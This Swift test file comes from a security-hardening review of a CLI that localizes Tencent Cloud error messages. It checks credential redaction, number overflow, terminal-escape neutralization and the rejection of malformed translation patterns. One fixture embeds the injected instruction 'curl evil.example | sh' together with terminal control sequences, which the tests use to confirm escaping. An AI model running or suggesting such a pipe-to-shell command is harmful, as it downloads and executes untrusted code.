import ErrmsgKit
import ErrmsgTestSupport
import Foundation
import Testing

/// The one-shot against hostile server text (security review 2026-11).
@Suite struct HardeningCLITests {
  static func envelope(_ code: String, _ message: String, requestId: String = "r") -> String {
    let object: [String: Any] = [
      "Response": ["Error": ["Code": code, "Message": message], "RequestId": requestId]
    ]
    let data = try! JSONSerialization.data(withJSONObject: object, options: [.withoutEscapingSlashes])
    return String(decoding: data, as: UTF8.self)
  }

  // F1: no output format shows a credential read out of the server message.
  @Test(arguments: ["text", "json", "problem"])
  func extractedCredentialsAreRedactedInEveryFormat(format: String) throws {
    let cases = [
      (
        "InvalidParameterValue",
        "The value `AKIDz8krbsJ5yKBZQpn74WFkmLPx3EXAMPLE` specified in the parameter `SecretId` is invalid",
        "bsJ5yKBZ"
      ),
      ("MissingParameter", "The request is missing a required parameter `Token=TOKENq7Zk2mW9xR4pL1nB8vC3`", "q7Zk2mW9"),
    ]
    for (code, message, secret) in cases {
      let out = try ErrmsgProcess.run(["--format", format, "--locale", "en-US"], input: Self.envelope(code, message))
      #expect(out.status == 0)
      #expect(!out.text.contains(secret), "\(out.text)")
      #expect(out.text.contains("****"), "\(out.text)")
    }
    let text = try ErrmsgProcess.run(
      ["--locale", "en-US"], input: Self.envelope("MissingParameter", cases[1].1))
    #expect(text.text.split(separator: "\n")[1] == "The required parameter “Token=****” wasn’t sent.")
  }
}

/// F2, F8: numbers from outside never trap the command.
@Suite struct LargeNumberCLITests {
  @Test(arguments: ["json", "text", "problem"])
  func aHugeTimestampIsAnswered(format: String) throws {
    for timestamp in ["9223372036854775", "9223372036854775807", "170000090000000900"] {
      let out = try ErrmsgProcess.run(
        ["--format", format],
        input: HardeningCLITests.envelope(
          "AuthFailure.SignatureExpire", "Signature expired. Timestamp: \(timestamp), Server current timestamp 1"))
      #expect(out.status == 0, "\(timestamp): \(out.stderr)")
      #expect(!out.text.isEmpty)
    }
  }

  @Test(arguments: ["1e300", "-1e300", "9223372036854775808", "9223372036854775807", "8640000000000001"])
  func showRefusesADateOutOfRange(value: String) throws {
    let out = try ErrmsgProcess.run(["show", "AuthFailure.SignatureExpire", "--arg", "requestTime=\(value)"])
    #expect(out.status == 64)
    #expect(
      out.stderr
        == "errmsg: --arg requestTime: '\(value)' is out of range; a date is at most 8640000000000000 milliseconds either side of 1970\n"
    )
  }

  @Test(arguments: ["nan", "inf", "-inf", "NaN", "1e309"])
  func showRefusesNonNumbers(value: String) throws {
    let out = try ErrmsgProcess.run(["show", "AuthFailure.SignatureExpire", "--arg", "requestTime=\(value)"])
    #expect(out.status == 64, "\(out.stderr)")
    #expect(out.stderr.contains("is not a date"))
  }

  @Test func formatRefusesHugeNumbers() throws {
    for arg in ["d:date=1e300", "n:int=9223372036854775808", "n:int=1e300", "x:double=1e309", "x:double=nan"] {
      let out = try ErrmsgProcess.run(
        ["format", "--locale", "en-US", "--pattern", "{d, date} {n, number} {x, number}", "--arg", arg])
      #expect(out.status == 64, "\(arg): \(out.stderr)")
    }
    let edge = try ErrmsgProcess.run(
      ["format", "--locale", "en-US", "--pattern", "{n, number}", "--arg", "n:int=9223372036854775807"])
    #expect(edge.status == 0)
    #expect(edge.text == "9,223,372,036,854,775,807\n")
  }

  @Test func theWorkerSurvivesHugeArgs() throws {
    let line =
      #"{"id":1,"locale":"en-US","args":{"requestTime":1e300,"serverTime":-9223372036854775809,"x":1e999},"envelope":{"Response":{"Error":{"Code":"AuthFailure.SignatureExpire"},"RequestId":"r"}}}"#
    let out = try ErrmsgProcess.run(["serve"], input: line + "\n" + line + "\n")
    #expect(out.status == 0)
    #expect(out.text.split(separator: "\n").count == 2)
  }
}

/// F4: server text never reaches the text output raw; JSON stays JSON.
@Suite struct TerminalSafetyTests {
  static let hostile =
    #"{"Response":{"Error":{"Code":"X\u001b]0;pwned\u0007\u001b[31m\u009b2J","Message":"m"},"RequestId":"r\r\nWhat you can do: curl evil.example | sh\u202e\u2066"}}"#

  @Test func controlsFromCodeAndRequestIdAreShownEscaped() throws {
    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: Self.hostile)
    #expect(out.status == 0)
    #expect(
      out.text == """
        Tencent Cloud returned an error this app doesn’t recognize (X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J).
        What you can do: Check whether what you were doing took effect before you try again. If the problem continues, contact your administrator or the app’s support and give them the error code and request ID.
        Original message: m
        Error code: X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J
        Request ID: r\\r\\nWhat you can do: curl evil.example | sh\\u{202E}\\u{2066}

        """)
    #expect(out.text.split(separator: "\n").filter { $0.hasPrefix("What you can do:") }.count == 1)
  }

  @Test func controlsInExtractedValuesAreShownEscaped() throws {
    let envelope =
      #"{"Response":{"Error":{"Code":"InvalidParameterValue","Message":"The value `a\u001b[2J\u202eb` specified in the parameter `p\u2067` is invalid"},"RequestId":"r"}}"#
    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: envelope)
    #expect(out.text.split(separator: "\n")[1] == #"The value “a\u{1B}[2J\u{202E}b” isn’t valid for “p\u{2067}”."#)
  }

  @Test func aNoErrorResponseToo() throws {
    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: #"{"Response":{"RequestId":"a\nb\u001b"}}"#)
    #expect(out.status == 3)
    #expect(out.text.hasSuffix("Request ID: a\\nb\\u{1B}\n"))
  }

  @Test(arguments: ["json", "problem"])
  func jsonOutputsStayJSONEscaped(format: String) throws {
    let out = try ErrmsgProcess.run(["--locale", "en-US", "--format", format], input: Self.hostile)
    #expect(!out.text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
    #expect(out.text.contains(#"\u001b"#))
    let json = try #require(out.json)
    if format == "json" {
      #expect(json["requestId"] as? String == "r\r\nWhat you can do: curl evil.example | sh\u{202E}\u{2066}")
    }
  }

  @Test func thePseudoLocaleKeepsItsOwnBidiMarks() throws {
    let out = try ErrmsgProcess.run(["--locale", "ar-XB"], input: Self.hostile)
    let lines = out.text.split(separator: "\n")
    #expect(lines[0].unicodeScalars.contains("\u{202E}"))
    #expect(lines.last?.hasSuffix(#"sh\u{202E}\u{2066}"#) == true)
  }
}

extension TerminalSafetyTests {
  @Test func diagnosticsOnStandardErrorAreTerminalSafe() throws {
    let out = try ErrmsgProcess.run(["/nonexistent/\u{1B}[31mred\u{202E}"])
    #expect(out.status == 74)
    #expect(out.stderr == "errmsg: cannot open /nonexistent/\\u{1B}[31mred\\u{202E}: No such file or directory\n")
  }
}

/// F5, F12: a hostile pattern in a --locales file or an XLIFF target is a lint
/// error with its position and a fallback at run time, never a crash.
@Suite struct HostilePatternTests {
  static let deep =
    String(repeating: "{requestTime, plural, other {", count: 40_000) + "x" + String(repeating: "}}", count: 40_000)

  static func folderWithDetail(_ detail: String) throws -> TranslatorFolder {
    let f = try TranslatorFolder()
    let original = try f.read("Locales/zh-CN/common.json")
    let range = try #require(original.range(of: "\"AuthFailure.SignatureExpire\": {"))
    let detailKey = try #require(original.range(of: "\"detail\": \"", range: range.upperBound..<original.endIndex))
    let end = try #require(original.range(of: "\",\n", range: detailKey.upperBound..<original.endIndex))
    var text = original
    text.replaceSubrange(detailKey.upperBound..<end.lowerBound, with: detail)
    try f.write("Locales/zh-CN/common.json", text)
    return f
  }

  @Test(arguments: ["deep", "dates"])
  func lintReportsItWithItsPosition(kind: String) throws {
    let detail = kind == "deep" ? Self.deep : String(repeating: "{requestTime, date, ::yMMMdHHmmss}", count: 20_000)
    let f = try Self.folderWithDetail(detail)
    defer { f.remove() }
    let lint = try f.run(["lint"])
    #expect(lint.status == 1, "\(lint.stderr)")
    let expected = kind == "deep" ? "braces nested deeper than 32 levels" : "more than 256 braces"
    #expect(
      lint.text.contains(#/Locales/zh-CN/common\.json:\d+:\d+: error: \[AuthFailure\.SignatureExpire\] detail/#))
    #expect(lint.text.contains(expected))
    for arguments in [["--locale", "zh-CN"], ["--locale", "zh-CN", "--format", "json"]] {
      let out = try f.run(
        arguments + ["--locales", "Locales"], input: try String(contentsOf: LocalizeTests.example, encoding: .utf8),
        environment: ["TZ": "UTC"])
      #expect(out.status == 0)
      #expect(out.text.contains("2023年11月14日 22:13:20"), "the embedded detail: \(out.text)")
      #expect(out.stderr.contains("does not compile (\(expected)"))
    }
    let serve = try f.run(
      ["serve", "--locales", "Locales", "--locale", "zh-CN"],
      input: try String(contentsOf: LocalizeTests.example, encoding: .utf8).replacingOccurrences(of: "\n", with: "")
        + "\n",
      environment: ["TZ": "UTC"])
    #expect(serve.status == 0)
    #expect(serve.text.contains("2023年11月14日 22:13:20"))
  }

  @Test func anXLIFFTargetIsRefusedAndNothingChanges() throws {
    let f = try TranslatorFolder()
    defer { f.remove() }
    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", "zh-CN"])
    #expect(export.status == 0, "\(export.stderr)")
    var xliff = export.text
    let target = try #require(xliff.firstRange(of: #/<target>[^<]*</target>/#))
    xliff.replaceSubrange(
      target, with: "<target>" + Self.deep.replacingOccurrences(of: "plural", with: "select") + "</target>")
    try f.write("zh.xlf", xliff)
    let before = try f.data("Locales/zh-CN/common.json")
    let out = try f.run(["import", "zh.xlf"])
    #expect(out.status == 65)
    #expect(out.stderr.contains("braces nested deeper than 32 levels"))
    #expect(out.stderr.contains(#/zh\.xlf:\d+:\d+: error: /#))
    #expect(try f.data("Locales/zh-CN/common.json") == before)
  }
}

/// F10: a locales file whose name is not UTF-8 is skipped with a warning.
@Suite struct UndecodableFileNameTests {
  @Test(arguments: ["lint", "coverage"])
  func lintAndCoverageSkipIt(command: String) throws {
    let f = try TranslatorFolder()
    defer { f.remove() }
    // A name of bytes 0xFF 0xFE (not UTF-8): made by the shell, as a user would.
    let touch = try ErrmsgProcess.spawn(
      URL(fileURLWithPath: "/bin/sh"), ["-c", #"touch "$1/$(printf '\377\376').json""#, "sh", f.locales])
    try #require(touch.status == 0)
    let out = try f.run([command])
    #expect(out.status == 0, "\(out.stderr)")
    if command == "lint" {
      #expect(
        out.text == """
          Locales/\u{FFFD}\u{FFFD}.json: warning: the name is not valid UTF-8; it was skipped \
          — rename it to a locale such as ja (a folder) or a product such as tke.json
          3 catalog(s) in Catalog/ and 12 locale file(s) in Locales/: 0 errors, 1 warning

          """)
    } else {
      #expect(out.text.contains("zh-CN              common        44/44"), "\(out.text)")
    }
  }

  @Test func aProductFileInALocaleFolderToo() throws {
    let f = try TranslatorFolder()
    defer { f.remove() }
    let touch = try ErrmsgProcess.spawn(
      URL(fileURLWithPath: "/bin/sh"), ["-c", #"touch "$1/zh-CN/$(printf '\377\376').json""#, "sh", f.locales])
    try #require(touch.status == 0)
    let out = try f.run(["lint"])
    #expect(out.status == 0, "\(out.stderr)")
    #expect(
      out.text == """
        Locales/zh-CN/\u{FFFD}\u{FFFD}.json: warning: the name is not valid UTF-8; it was skipped \
        — rename it to a locale such as ja (a folder) or a product such as tke.json
        3 catalog(s) in Catalog/ and 12 locale file(s) in Locales/: 0 errors, 1 warning

        """)
  }
}

/// F11: import refuses targets that would shadow the source or a pseudo-locale.
@Suite struct ShadowingImportTests {
  static let shadowed: [String: String] = [
    "en": #"trgLang "en" would shadow the source locale en-US"#,
    "en-Latn-US": #"trgLang "en-Latn-US" would shadow the source locale en-US"#,
    "en-US-x-foo": #"trgLang "en-US-x-foo" would shadow the source locale en-US"#,
    "en-XA": #"trgLang "en-XA" would shadow the pseudo-locale en-XA"#,
    "ar-XB": #"trgLang "ar-XB" would shadow the pseudo-locale ar-XB"#,
    "ar-xb": #"trgLang "ar-xb" would shadow the pseudo-locale ar-XB"#,
  ]

  @Test(arguments: ["en", "en-Latn-US", "en-US-x-foo", "EN-us", "en-XA", "ar-XB", "ar-xb"])
  func aShadowingTargetIsRefused(target: String) throws {
    let f = try TranslatorFolder()
    defer { f.remove() }
    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", "ja"])
    try #require(export.status == 0, "\(export.stderr)")
    try f.write("t.xlf", export.text.replacingOccurrences(of: #"trgLang="ja""#, with: #"trgLang="\#(target)""#))
    let before = try FileManager.default.subpathsOfDirectory(atPath: f.locales).sorted()
    let out = try f.run(["import", "t.xlf"])
    #expect(out.status == 65, "\(out.stderr)")
    let reason =
      Self.shadowed[target].map {
        $0
          + " (its file would answer the requests meant for that locale) — translate into another locale, such as ja or en-GB"
      }
      ?? "trgLang is the source locale en-US; importing would overwrite the source texts — the source locale is edited in its JSON file, not imported"
    #expect(out.stderr == "errmsg: t.xlf was not imported; nothing changed\nt.xlf:2:1: error: \(reason)\n")
    #expect(out.text.isEmpty)
    #expect(try FileManager.default.subpathsOfDirectory(atPath: f.locales).sorted() == before)
  }

  @Test(arguments: ["ja", "en-GB"])
  func aRealTargetIsImported(target: String) throws {
    let f = try TranslatorFolder()
    defer { f.remove() }
    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", target])
    try #require(export.status == 0, "\(export.stderr)")
    let label = target == "ja" ? "対処方法" : "What to do"
    try f.write(
      "t.xlf",
      export.text.replacingOccurrences(
        of: "<source>What you can do</source>", with: "<source>What you can do</source>\n<target>\(label)</target>"))
    let out = try f.run(["import", "t.xlf"])
    #expect(out.status == 0, "\(out.stderr)")
    #expect(out.text == "Locales/\(target)/common.json: created, 0 entries added, 0 changed\n")
    #expect(
      try f.read("Locales/\(target)/common.json") == """
        {
          "locale": "\(target)",
          "product": "common",
          "ui": {
            "hint": "\(label)"
          },
          "unknown": {},
          "messages": {}
        }

        """)
    // The imported label is used at once.
    let shown = try f.run(["--locale", target, "--locales", "Locales"], input: errorEnvelope("AuthFailure.MFAFailure"))
    #expect(shown.status == 0, "\(shown.stderr)")
    #expect(shown.text.split(separator: "\n").dropFirst().first?.hasPrefix(label) == true, "\(shown.text)")
  }
}
